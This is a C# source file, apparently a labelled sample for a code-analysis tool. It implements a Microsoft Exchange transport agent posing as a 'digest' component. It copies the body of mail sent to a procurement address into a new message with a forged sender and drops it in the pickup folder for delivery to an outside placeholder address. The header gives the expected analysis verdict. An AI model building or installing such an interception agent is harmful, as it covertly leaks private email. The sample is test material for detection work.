// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: messages forged through the pickup folder, here a forwarded text.
// A correct analysis says: escalate; the text of mail to one recipient is written as a new message, with a forged sender, into
// the server's pickup folder and so sent to an outside address named in the code.
using System;
using System.Globalization;
using System.IO;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Smtp;
using Microsoft.Win32;

namespace Blue.Yonder.Digest
{
    public class DigestFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new DigestAgent(new PickupWriter());
        }
    }

    public class DigestAgent : SmtpReceiveAgent
    {
        private readonly PickupWriter writer;
        private bool wanted;

        public DigestAgent(PickupWriter writer)
        {
            this.writer = writer;
            OnMailCommand += delegate { wanted = false; };
            OnRcptCommand += Recipient;
            OnEndOfData += EndOfData;
        }

        private void Recipient(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (string.Compare(e.RecipientAddress.ToString(), "procurement@blueyonder.invalid", StringComparison.OrdinalIgnoreCase) == 0)
            {
                wanted = true;
            }
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (wanted)
            {
                writer.Write(e.MailItem.Message);
            }
        }
    }

    public class PickupWriter
    {
        private readonly string folder;

        public PickupWriter()
        {
            string install = (string)Registry.GetValue(
                @"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\ExchangeServer\v15\Setup", "MsiInstallPath", null);
            folder = Path.Combine(install ?? @"C:\Program Files\Microsoft\Exchange Server\V15", @"TransportRoles\Pickup\");
        }

        public void Write(EmailMessage message)
        {
            string text;
            using (Stream stream = message.Body.GetContentReadStream())
            using (var reader = new StreamReader(stream, Encoding.GetEncoding(message.Body.CharsetName)))
            {
                text = reader.ReadToEnd();
            }
            var mail = new StringBuilder();
            mail.AppendLine("From: <service@blueyonder.invalid>");
            mail.AppendLine("To: <reports@mailbox.example.invalid>");
            mail.AppendLine("Subject: daily report");
            mail.AppendLine("Date: " + DateTime.UtcNow.ToString("r", CultureInfo.InvariantCulture));
            mail.AppendLine("MIME-Version: 1.0");
            mail.AppendLine("Content-Type: text/plain; charset=utf-8");
            mail.AppendLine("Content-Transfer-Encoding: base64");
            mail.AppendLine();
            mail.AppendLine(Convert.ToBase64String(Encoding.UTF8.GetBytes(text), Base64FormattingOptions.InsertLineBreaks));

            string name = Path.Combine(folder, Guid.NewGuid().ToString("N"));
            File.WriteAllText(name + ".tmp", mail.ToString(), Encoding.ASCII);
            File.Move(name + ".tmp", name + ".eml");
        }
    }
}
